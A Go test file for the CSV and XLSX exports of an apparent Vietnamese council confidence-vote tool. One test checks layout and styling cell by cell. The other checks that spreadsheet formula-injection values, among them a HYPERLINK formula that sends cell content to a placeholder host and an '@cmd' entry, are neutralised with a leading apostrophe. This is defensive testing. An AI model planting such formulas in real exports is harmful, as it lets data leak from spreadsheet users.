package document

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"tinnhiem/internal/rules"
	"tinnhiem/internal/vote"
)

func unzip(t *testing.T, b []byte) map[string]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("not a zip package: %v", err)
	}
	out := map[string]string{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		x, _ := io.ReadAll(rc)
		rc.Close()
		out[f.Name] = string(x)
	}
	return out
}

// readCSV parses an export back (after its byte-order mark).
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte("\xef\xbb\xbf")) {
		t.Fatal("the CSV has no byte-order mark")
	}
	r := csv.NewReader(bytes.NewReader(b[3:]))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// xlsxSheet is the worksheet XML as the test reads it back.
type xlsxSheet struct {
	Views struct {
		Pane struct {
			XSplit string `xml:"xSplit,attr"`
			YSplit string `xml:"ySplit,attr"`
			State  string `xml:"state,attr"`
		} `xml:"sheetView>pane"`
	} `xml:"sheetViews"`
	Cols []struct {
		Min   int     `xml:"min,attr"`
		Width float64 `xml:"width,attr"`
	} `xml:"cols>col"`
	Rows []struct {
		R     int `xml:"r,attr"`
		Cells []struct {
			Ref   string `xml:"r,attr"`
			Style int    `xml:"s,attr"`
			Type  string `xml:"t,attr"`
			V     string `xml:"v"`
			T     string `xml:"is>t"`
		} `xml:"c"`
	} `xml:"sheetData>row"`
	Merges []struct {
		Ref string `xml:"ref,attr"`
	} `xml:"mergeCells>mergeCell"`
}

// xlsxCells reads a workbook back: cell reference → (value, style, is a number).
type xcellRead struct {
	value  string
	style  int
	number bool
}

func readXLSX(t *testing.T, b []byte) (map[string]xcellRead, xlsxSheet, map[string]string) {
	t.Helper()
	files := unzip(t, b)
	var sheet xlsxSheet
	if err := xml.Unmarshal([]byte(files["xl/worksheets/sheet1.xml"]), &sheet); err != nil {
		t.Fatalf("sheet1.xml: %v", err)
	}
	cells := map[string]xcellRead{}
	for _, r := range sheet.Rows {
		for _, c := range r.Cells {
			if c.Type == "inlineStr" {
				cells[c.Ref] = xcellRead{c.T, c.Style, false}
			} else {
				cells[c.Ref] = xcellRead{c.V, c.Style, true}
			}
		}
	}
	return cells, sheet, files
}

// TestExportsCellByCell: the CSV parsed back and the XLSX's sheet read back say, cell by cell, the
// vote's figures at the top and the results under Vietnamese headings, in words (bands, levels, flags).
func TestExportsCellByCell(t *testing.T) {
	d := baseSensitiveData(t, rules.BaseTotalDelegates)
	recs := readCSV(t, CSV(d))
	want := [][]string{
		{"Kết quả lấy phiếu tín nhiệm - Lấy phiếu tín nhiệm năm 2028"},
		{"Hội đồng", "Hội đồng nhân dân tỉnh Sơn Hà khóa XI, nhiệm kỳ 2026 - 2031"},
		{"Kỳ họp", "Kỳ họp thứ 12, ngày 05 tháng 12 năm 2028"},
		{"Tình trạng", "Dự thảo: Ban kiểm phiếu chưa xác nhận"},
		{"Tổng số đại biểu", "50"},
		{"Số phiếu phát ra", "47"},
		{"Số phiếu thu vào", "47"},
		{"Số phiếu hợp lệ", "47"},
		{"Số phiếu không hợp lệ", "0"},
		{"Cơ sở tính tỷ lệ", "Tỷ lệ phần trăm (%) được tính trên tổng số đại biểu Hội đồng nhân dân tỉnh Sơn Hà: 50 (năm mươi) đại biểu, theo Nghị quyết số 50/NQ-HĐND ngày 05 tháng 12 năm 2028 của Hội đồng nhân dân tỉnh Sơn Hà."},
		// (an empty line: the reader skips it)
		{"STT", "Họ và tên", "Chức vụ", "Số phiếu hợp lệ", "Phiếu không hợp lệ đối với người này",
			"Tín nhiệm cao (số phiếu)", "Tín nhiệm cao (%)", "Tín nhiệm (số phiếu)", "Tín nhiệm (%)", "Tín nhiệm thấp (số phiếu)", "Tín nhiệm thấp (%)",
			"Mức (tỷ lệ \"tín nhiệm thấp\")", "Hệ quả", "Ghi chú", "Cơ sở tính khác", "\"Tín nhiệm thấp\" theo cơ sở khác (%)", "Mức theo cơ sở khác"},
		{"1", "Nguyễn Văn Thành", "Chủ tịch Hội đồng nhân dân tỉnh", "47", "0", "47", "94,00", "0", "0,00", "0", "0,00",
			"Từ 1/2 trở xuống", d.Tally.Subjects[0].Consequence, "", "", "", ""},
		{"2", "Lê Hoàng Phong", d.Tally.Subjects[1].Positions[0].Title + "; " + d.Tally.Subjects[1].Positions[1].Title, "47", "0", "22", "44,00", "0", "0,00", "25", "50,00",
			"Từ 1/2 trở xuống", d.Tally.Subjects[1].Consequence, "Kết quả khác nhau theo cách tính tỷ lệ", "Số phiếu thu vào (47)", "53,19", "Trên 1/2 đến dưới 2/3"},
	}
	if len(recs) != len(want) {
		t.Fatalf("the CSV has %d records, want %d: %q", len(recs), len(want), recs)
	}
	for i := range want {
		if strings.Join(recs[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("CSV record %d:\ngot  %q\nwant %q", i+1, recs[i], want[i])
		}
	}
	for _, r := range recs {
		for _, c := range r {
			if regexp.MustCompile(`^[a-z]+(_[a-z]+)+$`).MatchString(c) {
				t.Errorf("the CSV writes an identifier %q", c)
			}
		}
	}

	cells, sheet, files := readXLSX(t, mustXLSX(t, d))
	checks := map[string]xcellRead{
		"A1": {"Kết quả lấy phiếu tín nhiệm - Lấy phiếu tín nhiệm năm 2028", xsTitle, false},
		"A2": {"Hội đồng", xsLabel, false}, "C2": {"Hội đồng nhân dân tỉnh Sơn Hà khóa XI, nhiệm kỳ 2026 - 2031", xsFact, false},
		"A5": {"Tổng số đại biểu", xsLabel, false}, "C5": {"50", xsFact, true},
		"A6": {"Số phiếu phát ra", xsLabel, false}, "C6": {"47", xsFact, true},
		"A7": {"Số phiếu thu vào", xsLabel, false}, "C7": {"47", xsFact, true},
		"A8": {"Số phiếu hợp lệ", xsLabel, false}, "C8": {"47", xsFact, true},
		"A10": {"Cơ sở tính tỷ lệ", xsLabel, false},
		"A12": {"STT", xsHeader, false}, "L12": {"Mức (tỷ lệ \"tín nhiệm thấp\")", xsHeader, false},
		"A14": {"2", xsNumber, true}, "B14": {"Lê Hoàng Phong", xsWrap, false}, "J14": {"25", xsNumber, true}, "K14": {"50.00", xsPercent, true},
		"L14": {"Từ 1/2 trở xuống", xsWrap, false}, "N14": {"Kết quả khác nhau theo cách tính tỷ lệ", xsWrap, false},
		"O14": {"Số phiếu thu vào (47)", xsWrap, false}, "P14": {"53.19", xsPercent, true}, "Q14": {"Trên 1/2 đến dưới 2/3", xsWrap, false},
	}
	for ref, w := range checks {
		if got := cells[ref]; got != w {
			t.Errorf("XLSX %s: got %+v, want %+v", ref, got, w)
		}
	}
	// Formatted header (bold, filled), frozen under the header and beside the names, widths that fit.
	styles := files["xl/styles.xml"]
	if !strings.Contains(styles, `<xf numFmtId="0" fontId="1" fillId="2" borderId="1"`) || !strings.Contains(styles, `<font><b/>`) ||
		!strings.Contains(styles, `patternType="solid"`) {
		t.Error("the header style is not bold and filled")
	}
	if p := sheet.Views.Pane; p.State != "frozen" || p.YSplit != "12" || p.XSplit != "2" {
		t.Errorf("panes: %+v", p)
	}
	if len(sheet.Cols) != 17 {
		t.Fatalf("%d column widths", len(sheet.Cols))
	}
	for i, c := range sheet.Cols {
		head := []rune(cells[colName(i)+"12"].value)
		longest := 0
		for _, w := range strings.Fields(string(head)) {
			longest = max(longest, len([]rune(w)))
		}
		if c.Width < float64(longest) || c.Width > 64 {
			t.Errorf("column %s is %.1f wide for a heading word of %d", colName(i), c.Width, longest)
		}
	}
	if w := sheet.Cols[1].Width; w < float64(len([]rune("Lê Hoàng Phong"))) {
		t.Errorf("the names' column is %.1f wide", w)
	}
	if len(sheet.Merges) == 0 {
		t.Error("the figures' labels and values are not merged across the table's columns")
	}
}

func mustXLSX(t *testing.T, d Data) []byte {
	t.Helper()
	b, err := XLSX(d)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestExportsNeutraliseFormulas: an official, a post or a council named like a formula is written
// with a leading apostrophe in the CSV and the XLSX (OWASP), so no spreadsheet runs it; counts and
// percentages stay numbers.
func TestExportsNeutraliseFormulas(t *testing.T) {
	d := sampleData(vote.Published)
	evil := map[string]string{
		"=HYPERLINK(\"http://x.invalid/?\"&A1,\"Xem\")": "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"Xem\")",
		"+SUM(1+1)":    "'+SUM(1+1)",
		"-2+3":         "'-2+3",
		"@cmd":         "'@cmd",
		"\tTAB=1":      "'\tTAB=1",
		"\rCR=1":       "'\rCR=1",
		"Bình thường":  "Bình thường",
		"A=1 ở giữa":   "A=1 ở giữa",
		"Số 1 - số 2":  "Số 1 - số 2",
		"=1+1 (chức)":  "'=1+1 (chức)",
		"@SUM(A1:A10)": "'@SUM(A1:A10)",
	}
	for in, want := range evil {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
	d.Tally.Subjects[0].FullName = "=HYPERLINK(\"http://x.invalid/\",\"Xem\")"
	d.Tally.Subjects[0].Positions[0].Title = "+1+2"
	d.Council.Name = "@Hội đồng"
	recs := readCSV(t, CSV(d))
	var row []string
	for _, r := range recs {
		if len(r) > 1 && r[0] == "1" {
			row = r
		}
	}
	if row == nil || row[1] != "'=HYPERLINK(\"http://x.invalid/\",\"Xem\")" || row[2] != "'+1+2" || row[5] != "46" || row[6] != "97,87" {
		t.Errorf("CSV row: %q", row)
	}
	if recs[1][1] != "'@Hội đồng khóa XI, nhiệm kỳ 2026 - 2031" {
		t.Errorf("CSV council: %q", recs[1])
	}
	for _, r := range recs {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("the CSV has a cell that starts a formula: %q", c)
			}
		}
	}
	cells, _, _ := readXLSX(t, mustXLSX(t, d))
	if c := cells["B13"]; c.value != "'=HYPERLINK(\"http://x.invalid/\",\"Xem\")" || c.number {
		t.Errorf("XLSX name: %+v", c)
	}
	if c := cells["C13"]; c.value != "'+1+2" {
		t.Errorf("XLSX post: %+v", c)
	}
	if c := cells["F13"]; c.value != "46" || !c.number {
		t.Errorf("XLSX count: %+v", c)
	}
	if c := cells["C2"]; c.value != "'@Hội đồng khóa XI, nhiệm kỳ 2026 - 2031" {
		t.Errorf("XLSX council: %+v", c)
	}
	for ref, c := range cells {
		if !c.number && c.value != "" && strings.ContainsRune("=+-@\t\r", rune(c.value[0])) {
			t.Errorf("XLSX %s starts a formula: %q", ref, c.value)
		}
		if c.number {
			if _, err := strconv.ParseFloat(c.value, 64); err != nil || strings.HasPrefix(c.value, "-") {
				t.Errorf("XLSX %s is not a non-negative number: %q", ref, c.value)
			}
		}
	}
}
